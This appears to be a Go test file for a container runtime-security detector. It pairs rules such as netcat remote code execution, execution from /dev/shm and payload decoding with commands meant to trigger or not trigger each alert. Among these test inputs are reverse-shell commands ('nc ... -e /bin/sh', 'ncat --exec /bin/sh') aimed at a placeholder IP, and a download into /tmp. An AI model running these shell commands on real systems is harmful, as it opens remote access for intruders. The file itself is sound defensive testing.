package live

import "github.com/gyrsec/gyr/test/runc"

// sensitiveMount asks for the mounts of a container, and holds as long as they
// are not known.
const sensitiveMount = "Launch Sensitive Mount Container"

// containerEntries are the rules about programs started in containers.
func containerEntries(s *upstreamStage) []entry {
	mounts := companion{sensitiveMount, "the container's mounts are not known"}
	return []entry{
		{behaviour{
			rule:   "Terminal shell in container",
			raises: []step{newContainer("start a container on a terminal", runc.Options{}, mounts)},
			misses: []step{newContainer("start a container without a terminal", runc.Options{NoTerminal: true}, mounts), onTerminal("sh -c tty")},
		}, map[string]string{"proc.name": "sh", "proc.tty": "~^[1-9]", "evt.arg.flags": "~EXE_WRITABLE", "proc.pname": "~^runc"}},
		{behaviour{
			rule:   sensitiveMount,
			raises: []step{newContainer("start a container", runc.Options{NoTerminal: true})},
			misses: []step{actsInside("$A/true"), acts("unshare --pid --fork $A/true")},
		}, map[string]string{"proc.name": "sh"}},
		{behaviour{
			rule:   "Launch Excessively Capable Container",
			raises: []step{newContainer("start a container with dangerous capabilities", runc.Options{NoTerminal: true, Capabilities: dangerous[:]}, mounts)},
			misses: []step{
				newContainer("start a container", runc.Options{NoTerminal: true}, mounts),
				newContainer("start a container with a harmless capability", runc.Options{NoTerminal: true, Capabilities: []string{"CAP_LEASE"}}, mounts),
				s.actsCapable("$A/true"),
			},
		}, map[string]string{"thread.cap_permitted": "~ CAP_SYS_MODULE .*CAP_SYS_ADMIN ", "proc.name": "sh"}},
		{behaviour{
			rule:   "Netcat Remote Code Execution in Container",
			raises: []step{actsInside("$A/nc 192.0.2.1 80 -e /bin/sh", toolInside), actsInside("$A/ncat --exec /bin/sh 192.0.2.1 80", toolInside)},
			misses: []step{
				actsInside("$A/nc 192.0.2.1 80", toolInside),
				acts("$A/nc 192.0.2.1 80 -e /bin/sh", toolOnHost, companion{"Netcat/Socat Remote Code Execution on Host", "it is one"}),
			},
		}, map[string]string{"proc.cmdline": "nc 192.0.2.1 80 -e /bin/sh"}},
		{behaviour{
			rule: "Execution from /dev/shm",
			raises: []step{
				acts("cp $A/true " + sharedPrograms + "; cd /mnt; $A/actor login 0 " + sharedPrograms + "/true"), acts("cd " + sharedPrograms + "; ./true"),
				actsInside("/bin/ln -s /bin/busybox /dev/shm/true; /dev/shm/true"),
			},
			misses: []step{acts("$A/true"), acts("ls /dev/shm"), actsInside("/bin/ls /dev/shm")},
		}, map[string]string{
			"proc.exepath": sharedPrograms + "/true", "proc.cwd": "/mnt/", "user.loginname": "root", "group.name": "root", "evt.res": "SUCCESS",
		}},
		{behaviour{
			rule:   "Drop and execute new binary in container",
			raises: []step{actsInside("/bin/cp /opt/image/true /opt/image/id; /opt/image/id")},
			misses: []step{actsInside("/opt/image/true"), acts(imageDir + "/merged/id")},
		}, map[string]string{
			"proc.exe": "/opt/image/id", "proc.exe_ino.ctime": `~^\d{19}$`, "proc.exe_ino.mtime": `~^\d{19}$`, "proc.exe_ino.ctime_duration_proc_start": `~^\d+$`, "evt.arg.flags": "~EXE_UPPER_LAYER",
			"proc.sname": "sh", "proc.cwd": "/", "proc.aname[2]": "sh",
		}},
		{behaviour{
			rule:   inContainer.rule,
			raises: []step{actsInside("$A/apt-get install curl"), actsInside("$A/rpm -i x")},
			misses: []step{acts("$A/apt-get install curl"), actsInside("/bin/echo apt-get")},
		}, map[string]string{"proc.cmdline": "apt-get install curl"}},
		{behaviour{
			rule:   toolInside.rule,
			raises: []step{actsInside("$A/nmap 192.0.2.1")},
			misses: []step{acts("$A/nmap 192.0.2.1", toolOnHost), actsInside("/bin/ls $A/nmap")},
		}, map[string]string{"proc.exepath": actorInside + "/nmap"}},
		{behaviour{
			rule:   "Launch Remote File Copy Tools in Container",
			raises: []step{actsInside("$A/rsync a b"), actsInside("$A/scp a b")},
			misses: []step{acts("$A/rsync a b"), actsInside("/bin/cp /etc/hostname /tmp/b")},
		}, map[string]string{"proc.cmdline": "rsync a b"}},
		{behaviour{
			rule:   "Launch Ingress Remote File Copy Tools in Container",
			raises: []step{actsInside("$A/wget http://192.0.2.10"), actsInside("$A/curl -o /tmp/x http://192.0.2.10")},
			misses: []step{actsInside("$A/curl http://192.0.2.10"), acts("$A/wget http://192.0.2.10")},
		}, map[string]string{"proc.cmdline": "wget http://192.0.2.10"}},
		{behaviour{
			rule:   "Kubernetes Client Tool Launched in Container",
			raises: []step{actsInside("$A/kubectl get pods"), actsInside("$A/docker ps")},
			misses: []step{acts("$A/kubectl get pods"), actsInside("/bin/ls $A/kubectl")},
		}, map[string]string{"proc.cmdline": "kubectl get pods"}},
		{behaviour{
			rule:   "Decoding Payload in Container",
			raises: []step{actsInside("echo " + encoded + " | $A/base64 -d"), actsInside("$A/actor base64 --decode")},
			misses: []step{actsInside("echo true | $A/base64"), acts("echo " + encoded + " | base64 -d")},
		}, map[string]string{"proc.cmdline": "base64 -d"}},
		{behaviour{
			rule:   "Network Tool Executed During NPM Package Install",
			raises: []step{actsInside("$A/npm run $A/nc", inContainer, toolInside), actsInside("$A/npm run $A/actor run $A/nmap", inContainer, toolInside)},
			misses: []step{actsInside("$A/nc", toolInside), actsInside("$A/npm run $A/true", inContainer)},
		}, map[string]string{"proc.name": "nc", "proc.pname": "npm", "proc.aname[2]": "sh", "proc.aname[4]": "runc"}},
	}
}
